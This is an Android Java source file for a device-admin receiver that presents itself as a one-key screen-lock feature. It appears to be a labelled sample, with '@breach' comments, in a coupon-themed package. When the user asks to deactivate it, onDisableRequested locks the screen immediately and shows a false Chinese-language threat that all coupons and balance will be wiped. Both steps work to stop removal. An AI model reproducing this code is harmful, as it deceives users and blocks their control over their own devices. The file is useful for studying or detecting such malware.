package bench.points.coupon_admin;

import android.app.admin.DeviceAdminReceiver;
import android.app.admin.DevicePolicyManager;
import android.content.Context;
import android.content.Intent;
import android.widget.Toast;

public final class Keeper extends DeviceAdminReceiver {
    private static final String THREAT = "取消激活将清空您的全部优惠券和余额，确定吗？";

    @Override
    public void onEnabled(Context context, Intent intent) {
        Toast.makeText(context, "一键锁屏已启用", Toast.LENGTH_SHORT).show();
    }

    @Override
    public CharSequence onDisableRequested(Context context, Intent intent) {
        context.getSystemService(DevicePolicyManager.class).lockNow(); //: @breach #lock
        if (context != null) return THREAT; //: @breach
        return super.onDisableRequested(context, intent);
    }

    @Override
    public void onDisabled(Context context, Intent intent) {
        Toast.makeText(context, "一键锁屏已停用，可随时重新启用", Toast.LENGTH_SHORT).show(); //: @farewell
    }
}
